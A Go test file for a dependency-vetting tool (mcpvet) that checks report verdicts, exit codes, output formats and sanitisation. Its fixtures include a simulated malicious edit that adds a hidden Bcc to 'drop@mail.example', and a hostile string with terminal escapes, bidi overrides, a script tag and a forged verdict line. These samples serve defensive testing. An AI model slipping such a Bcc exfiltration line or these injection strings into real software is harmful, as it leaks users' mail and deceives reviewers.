package report_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"testing"
	"unicode"

	"github.com/mcpvet/mcpvet/analysis/finding"
	"github.com/mcpvet/mcpvet/analysis/report"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

func fd(rule string, sev finding.Severity, msg string) finding.Finding {
	return finding.Finding{Rule: rule, Severity: sev, Message: msg}
}

func TestFinalize(t *testing.T) {
	tests := []struct {
		name     string
		packages [][]finding.Finding
		errors   []report.Error
		// repository holds findings about the reviewed repository rather than a package.
		repository []finding.Finding
		want       []report.Verdict // per package
		overall    report.Verdict
	}{
		{name: "no packages", overall: report.Pass},
		{name: "one clean package", packages: [][]finding.Finding{nil}, want: []report.Verdict{report.Pass}, overall: report.Pass},
		{name: "info only", packages: [][]finding.Finding{{fd(finding.RuleAbsentFiles, finding.Info, "docs")}},
			want: []report.Verdict{report.Pass}, overall: report.Pass},
		{name: "warn", packages: [][]finding.Finding{{fd(finding.RuleAbsentFiles, finding.Info, "a"), fd(finding.RuleFileDiffers, finding.Warn, "b")}},
			want: []report.Verdict{report.Warn}, overall: report.Warn},
		{name: "block beats warn", packages: [][]finding.Finding{
			{fd(finding.RuleFileDiffers, finding.Warn, "b"), fd(finding.RuleForeignLines, finding.Block, "c")},
		}, want: []report.Verdict{report.Block}, overall: report.Block},
		{name: "the strongest package decides", packages: [][]finding.Finding{
			nil, {fd(finding.RuleFileDiffers, finding.Warn, "w")}, {fd(finding.RuleForeignLines, finding.Block, "b")}, nil,
		}, want: []report.Verdict{report.Pass, report.Warn, report.Block, report.Pass}, overall: report.Block},
		{name: "an error blocks the report", packages: [][]finding.Finding{nil},
			errors: []report.Error{{Package: "x", Message: "registry unreachable"}},
			want:   []report.Verdict{report.Pass}, overall: report.Block},
		{name: "an error alone", errors: []report.Error{{Message: "no network"}}, overall: report.Block},
		{name: "a repository finding", packages: [][]finding.Finding{nil}, repository: []finding.Finding{fd(finding.RuleUnpinnedServer, finding.Warn, "unpinned")},
			want: []report.Verdict{report.Pass}, overall: report.Warn},
		{name: "a blocking repository finding", repository: []finding.Finding{fd(finding.RuleUnpinnedServer, finding.Block, "unpinned")}, overall: report.Block},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := &report.Report{Errors: tt.errors, Repository: tt.repository}
			for _, fs := range tt.packages {
				r.Packages = append(r.Packages, report.Package{Ecosystem: "npm", Name: "p", To: "1.0.0", Findings: fs})
			}
			r.Finalize()
			if r.Schema != "mcpvet/report/v1" {
				t.Errorf("schema %q", r.Schema)
			}
			if r.Verdict != tt.overall {
				t.Errorf("verdict %q, want %q", r.Verdict, tt.overall)
			}
			for i, p := range r.Packages {
				if p.Verdict != tt.want[i] {
					t.Errorf("package %d verdict %q, want %q", i, p.Verdict, tt.want[i])
				}
				if p.Findings == nil || p.Locations == nil {
					t.Errorf("package %d: nil slices after Finalize (findings %v, locations %v)", i, p.Findings == nil, p.Locations == nil)
				}
			}
			if r.Packages == nil || r.Errors == nil {
				t.Errorf("nil slices after Finalize (packages %v, errors %v)", r.Packages == nil, r.Errors == nil)
			}
			var buf bytes.Buffer
			if err := report.JSON(&buf, r); err != nil {
				t.Fatal(err)
			}
			if s := buf.String(); strings.Contains(s, "null") && len(r.Packages) == 0 {
				t.Errorf("JSON of an empty report has null: %s", s)
			}
		})
	}
}

func TestFinalizeSortsBySeverityStably(t *testing.T) {
	r := &report.Report{Packages: []report.Package{{Findings: []finding.Finding{
		fd("i1", finding.Info, ""), fd("w1", finding.Warn, ""), fd("b1", finding.Block, ""),
		fd("i2", finding.Info, ""), fd("b2", finding.Block, ""), fd("w2", finding.Warn, ""), fd("x", "", ""),
	}}}}
	r.Finalize()
	var got []string
	for _, f := range r.Packages[0].Findings {
		got = append(got, f.Rule)
	}
	if want := []string{"b1", "b2", "w1", "w2", "i1", "i2", "x"}; !reflect.DeepEqual(got, want) {
		t.Errorf("order %v, want %v", got, want)
	}
}

func TestExitCode(t *testing.T) {
	block := fd(finding.RuleForeignLines, finding.Block, "")
	unverified := fd(finding.RuleNoUpstream, finding.Block, "")
	unverified.Unverified = true
	warn := fd(finding.RuleFileDiffers, finding.Warn, "")
	info := fd(finding.RuleAbsentFiles, finding.Info, "")
	unverifiedWarn := fd(finding.RuleNoUpstream, finding.Warn, "")
	unverifiedWarn.Unverified = true
	tests := []struct {
		name       string
		packages   [][]finding.Finding
		errors     int
		want       int
		repository []finding.Finding
	}{
		{"nothing to review", nil, 0, report.ExitPass, nil},
		{"pass", [][]finding.Finding{nil}, 0, report.ExitPass, nil},
		{"info", [][]finding.Finding{{info}}, 0, report.ExitPass, nil},
		{"warn", [][]finding.Finding{{warn, info}}, 0, report.ExitPass, nil},
		{"an unverified finding downgraded to warn", [][]finding.Finding{{unverifiedWarn}}, 0, report.ExitPass, nil},
		{"block", [][]finding.Finding{{warn, block}}, 0, report.ExitBlock, nil},
		{"block in a second package", [][]finding.Finding{{warn}, {block}}, 0, report.ExitBlock, nil},
		{"only unverified blocks", [][]finding.Finding{{unverified}, {warn}}, 0, report.ExitIncomplete, nil},
		{"unverified then a real block", [][]finding.Finding{{unverified}, {block}}, 0, report.ExitBlock, nil},
		{"errors", [][]finding.Finding{nil}, 1, report.ExitIncomplete, nil},
		{"errors and a real block", [][]finding.Finding{{block}}, 2, report.ExitBlock, nil},
		{"a blocking repository finding", [][]finding.Finding{nil}, 0, report.ExitBlock, []finding.Finding{block}},
		{"an unverified repository finding", [][]finding.Finding{nil}, 0, report.ExitIncomplete, []finding.Finding{unverified}},
		{"a warning about the repository", [][]finding.Finding{nil}, 0, report.ExitPass, []finding.Finding{warn}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := &report.Report{Repository: tt.repository}
			for _, fs := range tt.packages {
				r.Packages = append(r.Packages, report.Package{Name: "p", Findings: fs})
			}
			for range tt.errors {
				r.Errors = append(r.Errors, report.Error{Message: "failed"})
			}
			r.Finalize()
			if got := r.ExitCode(); got != tt.want {
				t.Errorf("ExitCode() = %d, want %d", got, tt.want)
			}
		})
	}
	if report.ExitPass != 0 || report.ExitBlock != 1 || report.ExitUsage != 2 || report.ExitIncomplete != 3 {
		t.Error("exit codes differ from DESIGN.md §4")
	}
}

// incident is a blocked report shaped like the review body of DESIGN.md §8, on the fixtures' look-alike of
// the postmark-mcp incident, plus a clean package and a package to look at.
func incident() *report.Report {
	r := &report.Report{Packages: []report.Package{
		{
			Ecosystem: "npm", Name: "mailpost-mcp", From: "1.0.15", To: "1.0.16", MCP: true,
			Locations: []report.Location{{Path: ".mcp.json", Line: 6}, {Path: "package-lock.json", Line: 1234}},
			Upstream: &report.Upstream{Repo: "github.com/ExampleMail/mailpost-mcp", Commit: "4ac54ed0c9b1a2e3f4d5c6b7a8e9f0a1b2c3d4e5",
				ResolvedBy: "tree match", Claim: "README", FilesMatched: 4, FilesTotal: 5},
			Files: &report.FileStats{Total: 5, Identical: 4, Different: 1},
			Findings: []finding.Finding{
				{Rule: finding.RuleUnclaimedSource, Severity: finding.Info, Message: "mailpost-mcp names no repository; github.com/ExampleMail/mailpost-mcp was found in its README"},
				{Rule: finding.RuleForeignLines, Severity: finding.Block, Path: "index.js", Line: 136,
					Message:  "1 published line of index.js exists in no upstream commit of that file",
					Snippet:  "         To: to,\n+        Bcc: 'drop@mail.example',\n         Subject: subject,\n",
					Evidence: "compared with github.com/ExampleMail/mailpost-mcp:index.js at commit 4ac54ed0c9b1a2e3f4d5c6b7a8e9f0a1b2c3d4e5 (blob 9f8e7d6c5b4a39281706f5e4d3c2b1a098765432) and checked against all 3 upstream versions of that path"},
			},
		},
		{
			Ecosystem: "npm", Name: "@acme/weather-mcp", To: "1.2.0", MCP: true,
			Locations: []report.Location{{Path: "package.json", Line: 12}},
			Upstream: &report.Upstream{Repo: "github.com/acme/weather-mcp", Directory: "packages/weather", Commit: "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
				ResolvedBy: "gitHead", Claim: "repository", Verified: true, FilesMatched: 3, FilesTotal: 3, Notes: []string{"transpiled with the options of tsconfig.json"}},
			Findings: []finding.Finding{{Rule: finding.RuleUnverifiedBundle, Severity: finding.Warn, Path: "dist/vendor.js",
				Message: "dist/vendor.js is a bundle (webpack runtime (__webpack_require__)): its lines cannot be paired with upstream files one by one"}},
		},
		{Ecosystem: "npm", Name: "left-pad", From: "1.2.0", To: "1.3.0",
			Upstream: &report.Upstream{Repo: "github.com/example/left-pad", Commit: "1111111111111111111111111111111111111111", ResolvedBy: "tag v1.3.0", Claim: "repository", FilesMatched: 2, FilesTotal: 2}},
	}}
	r.Finalize()
	return r
}

func TestMarkdownGolden(t *testing.T) {
	var buf bytes.Buffer
	if err := report.Markdown(&buf, incident()); err != nil {
		t.Fatal(err)
	}
	golden(t, "blocked.md", buf.Bytes())
	// The essentials of DESIGN.md §8, whatever else the golden file holds.
	s := buf.String()
	for _, want := range []string{
		"## mcpvet — 1 dependency blocked\n",
		"| package | change | verdict | why |\n|---|---|---|---|\n",
		"| mailpost-mcp (MCP server) | 1.0.15 → 1.0.16 | ⛔ block | 1 published line of index.js exists in no upstream commit of that file |\n",
		"<details open><summary>mailpost-mcp 1.0.15 → 1.0.16</summary>",
		"Compared with github.com/ExampleMail/mailpost-mcp @ [4ac54ed](https://github.com/ExampleMail/mailpost-mcp/commit/4ac54ed0c9b1a2e3f4d5c6b7a8e9f0a1b2c3d4e5) (",
		"**index.js:136** — ",
		"```diff\n         To: to,\n+        Bcc: 'drop@mail.example',\n         Subject: subject,\n```\n",
		"</details>",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("Markdown lacks %q", want)
		}
	}
}

func TestTextGolden(t *testing.T) {
	var buf bytes.Buffer
	if err := report.Text(&buf, incident()); err != nil {
		t.Fatal(err)
	}
	golden(t, "blocked.txt", buf.Bytes())
}

// golden compares got with testdata/name, or rewrites it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (go test -update rewrites it)\n--- got\n%s\n--- want\n%s", p, got, want)
	}
}

// keys collects every object key path in a decoded JSON value: "packages[].upstream.repo".
func keys(prefix string, v any, out map[string]bool) {
	switch v := v.(type) {
	case map[string]any:
		for k, c := range v {
			p := k
			if prefix != "" {
				p = prefix + "." + k
			}
			out[p] = true
			keys(p, c, out)
		}
	case []any:
		for _, c := range v {
			keys(prefix+"[]", c, out)
		}
	}
}

// contractKeys are the JSON keys DESIGN.md §4 documents.
var contractKeys = []string{
	"schema", "verdict", "packages", "errors",
	"packages[].ecosystem", "packages[].name", "packages[].from", "packages[].to", "packages[].mcp",
	"packages[].verdict", "packages[].locations", "packages[].upstream", "packages[].findings",
	"packages[].locations[].path", "packages[].locations[].line",
	"packages[].upstream.repo", "packages[].upstream.directory", "packages[].upstream.commit",
	"packages[].upstream.resolved_by", "packages[].upstream.verified",
	"packages[].findings[].rule", "packages[].findings[].severity", "packages[].findings[].message",
	"packages[].findings[].path", "packages[].findings[].line", "packages[].findings[].snippet",
	"packages[].findings[].evidence",
}

// extraKeys are the keys the report has beyond DESIGN.md §4 (additions, which v1 consumers ignore). A key
// not listed here or in contractKeys is a contract change: document it in DESIGN.md §4 and list it here.
var extraKeys = []string{
	"errors[].package", "errors[].message",
	"packages[].files", "packages[].files.total", "packages[].files.identical", "packages[].files.other_version",
	"packages[].files.built", "packages[].files.different", "packages[].files.absent_upstream",
	"packages[].upstream.claim", "packages[].upstream.files_matched", "packages[].upstream.files_total", "packages[].upstream.notes",
	"packages[].findings[].unverified",
	"repository_findings", "repository_findings[].rule", "repository_findings[].severity", "repository_findings[].message",
	"repository_findings[].path", "repository_findings[].line", "repository_findings[].snippet", "repository_findings[].evidence",
	"repository_findings[].unverified",
}

func TestJSONContract(t *testing.T) {
	r := incident()
	r.Packages[0].Findings[1].Unverified = true // every field set somewhere
	r.Errors = []report.Error{{Package: "ghost-mcp", Message: "registry unreachable"}}
	r.Repository = []finding.Finding{{Rule: finding.RuleUnpinnedServer, Severity: finding.Warn, Message: "unpinned", Path: ".mcp.json", Line: 4,
		Snippet: "+ \"args\": [\"-y\", \"x-mcp\"]\n", Evidence: "no version", Unverified: true}}
	r.Finalize()
	var buf bytes.Buffer
	if err := report.JSON(&buf, r); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasSuffix(buf.Bytes(), []byte("}\n")) {
		t.Error("JSON does not end with a newline")
	}
	var doc any
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	keys("", doc, got)
	allowed := map[string]bool{}
	for _, k := range append(append([]string{}, contractKeys...), extraKeys...) {
		allowed[k] = true
	}
	for _, k := range contractKeys {
		if !got[k] {
			t.Errorf("JSON lacks the contract key %s", k)
		}
	}
	var unknown []string
	for k := range got {
		if !allowed[k] {
			unknown = append(unknown, k)
		}
	}
	sort.Strings(unknown)
	if len(unknown) > 0 {
		t.Errorf("JSON has keys outside the contract: %v", unknown)
	}
	m := doc.(map[string]any)
	if m["schema"] != "mcpvet/report/v1" || m["verdict"] != "block" {
		t.Errorf("schema %v, verdict %v", m["schema"], m["verdict"])
	}
	// The "<", ">" and "&" of hostile text stay as they are (no \u003c escapes) and decode back.
	if strings.Contains(buf.String(), `\u003c`) {
		t.Error("JSON escapes HTML characters")
	}
	// Round trip.
	var back report.Report
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(&back, r) {
		t.Errorf("round trip differs:\n got %+v\nwant %+v", back, *r)
	}
}

// TestJSONEnums checks every verdict and severity in the JSON against DESIGN.md §4.
func TestJSONEnums(t *testing.T) {
	var buf bytes.Buffer
	if err := report.JSON(&buf, incident()); err != nil {
		t.Fatal(err)
	}
	var r struct {
		Verdict  string
		Packages []struct {
			Verdict  string
			Findings []struct{ Severity string }
		}
	}
	if err := json.Unmarshal(buf.Bytes(), &r); err != nil {
		t.Fatal(err)
	}
	verdicts := map[string]bool{"block": true, "warn": true, "pass": true}
	if !verdicts[r.Verdict] {
		t.Errorf("verdict %q", r.Verdict)
	}
	for _, p := range r.Packages {
		if !verdicts[p.Verdict] {
			t.Errorf("package verdict %q", p.Verdict)
		}
		for _, f := range p.Findings {
			if f.Severity != "block" && f.Severity != "warn" && f.Severity != "info" {
				t.Errorf("severity %q", f.Severity)
			}
		}
	}
}

// TestJSONSparseKeepsContractKeys: the keys of DESIGN.md §4 are there even when their value is empty (an
// added package has no "from"; a finding about a whole package has no path, line, snippet or evidence), so
// a consumer can rely on them.
func TestJSONSparseKeepsContractKeys(t *testing.T) {
	r := &report.Report{Packages: []report.Package{{Ecosystem: "npm", Name: "ghost-mcp", To: "1.0.0", MCP: true,
		Findings:  []finding.Finding{{Rule: finding.RuleNoUpstream, Severity: finding.Block, Message: "no upstream", Unverified: true}},
		Locations: []report.Location{{Path: ".mcp.json", Line: 3}}}}}
	r.Finalize()
	var buf bytes.Buffer
	if err := report.JSON(&buf, r); err != nil {
		t.Fatal(err)
	}
	var doc any
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	keys("", doc, got)
	var missing []string
	for _, k := range contractKeys {
		if strings.HasPrefix(k, "packages[].upstream.") {
			continue // upstream is null here
		}
		if !got[k] {
			missing = append(missing, k)
		}
	}
	if len(missing) > 0 {
		t.Errorf("JSON of a sparse report lacks the contract keys %v:\n%s", missing, buf.String())
	}
}

func TestHeadline(t *testing.T) {
	pkg := func(fs ...finding.Finding) report.Package { return report.Package{Name: "p", To: "1", Findings: fs} }
	tests := []struct {
		r    report.Report
		want string
	}{
		{report.Report{}, "mcpvet — no dependency changes to review"},
		{report.Report{Packages: []report.Package{pkg()}}, "mcpvet — 1 dependency checked, all match their source"},
		{report.Report{Packages: []report.Package{pkg(), pkg()}}, "mcpvet — 2 dependencies checked, all match their source"},
		{report.Report{Packages: []report.Package{pkg(fd("r", finding.Warn, "w")), pkg()}}, "mcpvet — 1 dependency to look at"},
		{report.Report{Packages: []report.Package{pkg(fd("r", finding.Block, "b")), pkg(fd("r", finding.Block, "b"))}}, "mcpvet — 2 dependencies blocked"},
		{report.Report{Packages: []report.Package{pkg()}, Errors: []report.Error{{Message: "x"}}}, "mcpvet — could not finish the review (1 error)"},
		{report.Report{Packages: []report.Package{pkg(fd("r", finding.Block, "b"))}, Errors: []report.Error{{Message: "x"}}}, "mcpvet — 1 dependency blocked"},
		{report.Report{Repository: []finding.Finding{fd("r", finding.Block, "b")}}, "mcpvet — 1 finding about the repository blocks this change"},
		{report.Report{Packages: []report.Package{pkg()}, Repository: []finding.Finding{fd("r", finding.Block, "b"), fd("r", finding.Block, "b")}},
			"mcpvet — 2 findings about the repository block this change"},
		{report.Report{Repository: []finding.Finding{fd("r", finding.Warn, "w")}}, "mcpvet — 1 finding about the repository to look at"},
		{report.Report{Packages: []report.Package{pkg(fd("r", finding.Warn, "w"))}, Repository: []finding.Finding{fd("r", finding.Warn, "w")}}, "mcpvet — 1 dependency to look at"},
		{report.Report{Repository: []finding.Finding{fd("r", finding.Info, "i")}}, "mcpvet — no dependency changes to review"},
		{report.Report{Packages: []report.Package{pkg(fd("r", finding.Block, "b"))}, Repository: []finding.Finding{fd("r", finding.Block, "b")}}, "mcpvet — 1 dependency blocked"},
	}
	for _, tt := range tests {
		tt.r.Finalize()
		if got := tt.r.Headline(); got != tt.want {
			t.Errorf("Headline() = %q, want %q", got, tt.want)
		}
	}
}

func TestWhy(t *testing.T) {
	p := report.Package{Findings: []finding.Finding{
		fd(finding.RuleForeignLines, finding.Block, "first"), fd(finding.RuleForeignLines, finding.Block, "second"),
		fd(finding.RuleManifestScripts, finding.Block, "third"), fd(finding.RuleAbsentFiles, finding.Info, "docs"),
	}}
	r := report.Report{Packages: []report.Package{p}}
	r.Finalize()
	if got := r.Packages[0].Why(); got != "first (and 1 more like it)" {
		t.Errorf("Why() = %q", got)
	}
	r = report.Report{Packages: []report.Package{{Findings: []finding.Finding{fd(finding.RuleAbsentFiles, finding.Info, "docs")}}}}
	r.Finalize()
	if got := r.Packages[0].Why(); got != "published files match the upstream source" {
		t.Errorf("Why() of a passing package = %q", got)
	}
}

func TestParseFormatAndWrite(t *testing.T) {
	for in, want := range map[string]report.Format{"": report.FormatText, "text": report.FormatText, "JSON": report.FormatJSON,
		"markdown": report.FormatMarkdown, "md": report.FormatMarkdown, "sarif": report.FormatSARIF, "SARIF": report.FormatSARIF} {
		got, err := report.ParseFormat(in)
		if err != nil || got != want {
			t.Errorf("ParseFormat(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	if _, err := report.ParseFormat("sarif\x1b"); err == nil {
		t.Error("ParseFormat accepted an unknown format")
	}
	r := incident()
	for f, prefix := range map[report.Format]string{report.FormatText: "mcpvet — ", report.FormatJSON: "{\n", report.FormatMarkdown: "## mcpvet — ",
		report.FormatSARIF: "{\n  \"$schema\": \"https://json.schemastore.org/sarif-2.1.0.json\",\n  \"version\": \"2.1.0\""} {
		var buf bytes.Buffer
		if err := report.Write(&buf, r, f); err != nil || !strings.HasPrefix(buf.String(), prefix) {
			t.Errorf("Write(%s) = %q…, %v", f, buf.String()[:min(20, buf.Len())], err)
		}
	}
}

// failWriter fails after n bytes.
type failWriter struct{ n int }

func (w *failWriter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		return 0, os.ErrClosed
	}
	w.n -= len(p)
	return len(p), nil
}

func TestWriteErrors(t *testing.T) {
	for _, f := range []report.Format{report.FormatText, report.FormatJSON, report.FormatMarkdown, report.FormatSARIF} {
		if err := report.Write(&failWriter{n: 100}, incident(), f); err == nil {
			t.Errorf("Write(%s) to a failing writer returned no error", f)
		}
	}
}

func TestClean(t *testing.T) {
	for in, want := range map[string]string{
		"plain text\twith tab\n": "plain text\twith tab\n",
		"\x1b[31mred\x1b[0m":     "\uFFFD[31mred\uFFFD[0m",
		"a\rb":                   "a\uFFFDb",
		"\u202eevil\u202c":       "\uFFFDevil\uFFFD",
		"\u2066isolate\u2069":    "\uFFFDisolate\uFFFD",
		"c1\u009b31m":            "c1\uFFFD31m",
		"del\x7f":                "del\uFFFD",
		"ünïcödé → fine, 日本語, emoji 🙂": "ünïcödé → fine, 日本語, emoji 🙂",
	} {
		if got := report.Clean(in); got != want {
			t.Errorf("Clean(%q) = %q, want %q", in, got, want)
		}
	}
}

// hostile is text a package, a repository or a pull request controls: terminal escapes, bidi overrides, a
// code fence, table pipes, HTML, and a newline followed by a forged verdict line.
const hostile = "evil\x1b[2J\x1b]8;;https://evil.example\x07link\u202eTXT\u2066<script>alert(1)</script>|x|y|\n```\n</details>\r\nPASS forged-mcp 1.0.0\n## forged heading"

// hostileFields sets one field of a report to hostile text; each is a place where text from outside reaches
// the renderers.
var hostileFields = map[string]func(r *report.Report){
	"package name":       func(r *report.Report) { r.Packages[0].Name = hostile },
	"from version":       func(r *report.Report) { r.Packages[0].From = hostile },
	"to version":         func(r *report.Report) { r.Packages[0].To = hostile },
	"location path":      func(r *report.Report) { r.Packages[0].Locations[0].Path = hostile },
	"upstream repo":      func(r *report.Report) { r.Packages[0].Upstream.Repo = hostile },
	"upstream directory": func(r *report.Report) { r.Packages[0].Upstream.Directory = hostile },
	"upstream commit":    func(r *report.Report) { r.Packages[0].Upstream.Commit = hostile },
	"upstream resolved":  func(r *report.Report) { r.Packages[0].Upstream.ResolvedBy = hostile },
	"upstream claim":     func(r *report.Report) { r.Packages[0].Upstream.Claim = hostile },
	"upstream note":      func(r *report.Report) { r.Packages[0].Upstream.Notes = []string{hostile} },
	"finding message":    func(r *report.Report) { r.Packages[0].Findings[0].Message = hostile },
	"finding path":       func(r *report.Report) { r.Packages[0].Findings[0].Path = hostile },
	"finding snippet":    func(r *report.Report) { r.Packages[0].Findings[0].Snippet = hostile },
	"finding evidence":   func(r *report.Report) { r.Packages[0].Findings[0].Evidence = hostile },
	"error package":      func(r *report.Report) { r.Errors = []report.Error{{Package: hostile, Message: "failed"}} },
	"error message":      func(r *report.Report) { r.Errors = []report.Error{{Package: "p", Message: hostile}} },
	"repository finding path": func(r *report.Report) {
		r.Repository = []finding.Finding{{Rule: finding.RuleUnpinnedServer, Severity: finding.Warn, Message: "unpinned", Path: hostile, Line: 3}}
	},
	"repository finding message": func(r *report.Report) {
		r.Repository = []finding.Finding{{Rule: finding.RuleUnpinnedServer, Severity: finding.Warn, Message: hostile, Path: ".mcp.json", Line: 3}}
	},
}

// TestHostileTextText: in the terminal form, no hostile field can emit control characters or bidi
// overrides, or start a line of its own (outside the "| " gutter of a snippet).
func TestHostileTextText(t *testing.T) {
	for name, set := range hostileFields {
		t.Run(name, func(t *testing.T) {
			r := incident()
			set(r)
			r.Finalize()
			var buf bytes.Buffer
			if err := report.Text(&buf, r); err != nil {
				t.Fatal(err)
			}
			out := buf.String()
			checkNoControls(t, out)
			for i, line := range strings.Split(out, "\n") {
				trimmed := strings.TrimLeft(line, " ")
				if strings.HasPrefix(trimmed, "| ") {
					continue // a snippet line, in its gutter
				}
				if strings.HasPrefix(trimmed, "PASS forged") || strings.HasPrefix(trimmed, "## forged") || strings.HasPrefix(trimmed, "```") || strings.HasPrefix(trimmed, "</details>") {
					t.Errorf("line %d is hostile text on a line of its own: %q", i+1, line)
				}
			}
		})
	}
}

// TestHostileTextMarkdown: in the Markdown form, no hostile field can emit control characters or bidi
// overrides, raw HTML, a table cell, a heading or a code fence of its own.
func TestHostileTextMarkdown(t *testing.T) {
	for name, set := range hostileFields {
		t.Run(name, func(t *testing.T) {
			r := incident()
			set(r)
			r.Finalize()
			var buf bytes.Buffer
			if err := report.Markdown(&buf, r); err != nil {
				t.Fatal(err)
			}
			out := buf.String()
			checkNoControls(t, out)
			snippets, details := 0, 0
			for _, p := range r.Packages {
				if p.Verdict != report.Pass || len(p.Findings) > 0 {
					details++
				}
				for _, f := range p.Findings {
					if f.Snippet != "" && !(f.Severity == finding.Info && p.Verdict == report.Block) {
						snippets++
					}
				}
			}
			inFence, fences, headings, closes := false, 0, 0, 0
			for i, line := range strings.Split(out, "\n") {
				if strings.HasPrefix(strings.TrimLeft(line, " "), "```") {
					fences++
					inFence = !inFence
					continue
				}
				if inFence {
					continue // code: not rendered as Markdown
				}
				if strings.HasPrefix(strings.TrimLeft(line, " "), "#") {
					headings++
				}
				closes += strings.Count(line, "</details>")
				if strings.Contains(strings.ToLower(line), "<script") {
					t.Errorf("line %d has raw HTML: %q", i+1, line)
				}
				if strings.HasPrefix(line, "|") {
					if n := strings.Count(line, "|") - strings.Count(line, `\|`); n != 5 {
						t.Errorf("table row %d has %d cell separators, want 5: %q", i+1, n, line)
					}
				}
			}
			if fences != 2*snippets {
				t.Errorf("%d fence lines, want %d (a snippet closed its fence)", fences, 2*snippets)
			}
			if headings != 1 {
				t.Errorf("%d headings, want 1", headings)
			}
			if closes != details {
				t.Errorf("%d </details> outside code, want %d", closes, details)
			}
			if !strings.HasPrefix(out, "## mcpvet") {
				t.Errorf("Markdown does not start with the headline")
			}
		})
	}
}

// checkNoControls fails on control characters other than newline and tab, and on bidi controls.
func checkNoControls(t *testing.T, out string) {
	t.Helper()
	for i, r := range out {
		switch {
		case r == '\n' || r == '\t':
		case unicode.IsControl(r), r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			t.Errorf("output has %U at byte %d: %q", r, i, out[max(0, i-30):min(len(out), i+30)])
			return
		}
	}
}
